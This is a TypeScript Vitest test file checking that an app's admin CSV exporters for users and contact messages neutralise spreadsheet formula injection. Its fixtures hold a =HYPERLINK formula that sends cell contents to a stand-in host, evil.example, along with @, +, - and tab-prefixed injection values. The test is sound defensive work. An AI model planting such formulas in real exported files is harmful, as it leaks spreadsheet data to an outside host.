import { afterEach, describe, expect, it, vi } from 'vitest';
import type { ContactMessage } from '@common/schemas/contact';
import type { AdminUser } from '@common/schemas/user';
import { messageExporter } from './resources/contact-messages/message-csv';
import { userExporter } from './resources/users/user-csv';

afterEach(() => vi.restoreAllMocks());

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const NEUTRALISED = `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`;

/** Runs a List's exporter as the Export button does and returns the downloaded file's text. */
async function download(exporter: typeof userExporter, records: object[], resource: string) {
  let blob: Blob | undefined;
  vi.spyOn(URL, 'createObjectURL').mockImplementation((b) => {
    blob = b as Blob;
    return 'blob:csv';
  });
  const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
  await exporter(records as never, vi.fn(), {} as never, resource);
  expect(click).toHaveBeenCalled();
  return blob!.text();
}

const user: AdminUser = {
  id: 'u1',
  username: FORMULA,
  email: '@evil.example',
  firstName: '+Hop',
  lastName: '-Fan',
  isAdmin: false,
  isPremium: true,
  plan: 'premium',
  analysesUsed: 3,
  analysisLimit: 100,
  usageResetsAt: '2026-02-01T00:00:00.000Z',
  hasSeenScanTips: false,
  emailTips: false,
  createdAt: '2026-01-01T00:00:00.000Z',
  subscriptionStatus: 'active',
};

const message: ContactMessage = {
  id: 'm1',
  name: '\tTab',
  email: 'ann@example.com',
  subject: '@SUM(1+1)',
  message: FORMULA,
  createdAt: '2026-01-01T00:00:00.000Z',
};

describe('admin CSV exports', () => {
  it('Users: formula-looking usernames, e-mails and names open as text', async () => {
    const csv = await download(userExporter, [user], 'users');
    const [header, row] = csv.split('\r\n');
    expect(header).toBe(
      'id,username,email,first_name,last_name,plan,subscription,analyses_used,analysis_limit,joined',
    );
    expect(row).toBe(
      `"u1",${NEUTRALISED},"'@evil.example","'+Hop","'-Fan","Premium","Active","3","100","2026-01-01T00:00:00.000Z"`,
    );
  });

  it('Messages: a formula in a message, subject or name opens as text', async () => {
    const csv = await download(messageExporter, [message], 'contact-messages');
    const [header, row] = csv.split('\r\n');
    expect(header).toBe('id,date,name,email,subject,message');
    expect(row).toBe(
      `"m1","2026-01-01T00:00:00.000Z","'\tTab","ann@example.com","'@SUM(1+1)",${NEUTRALISED}`,
    );
  });
});
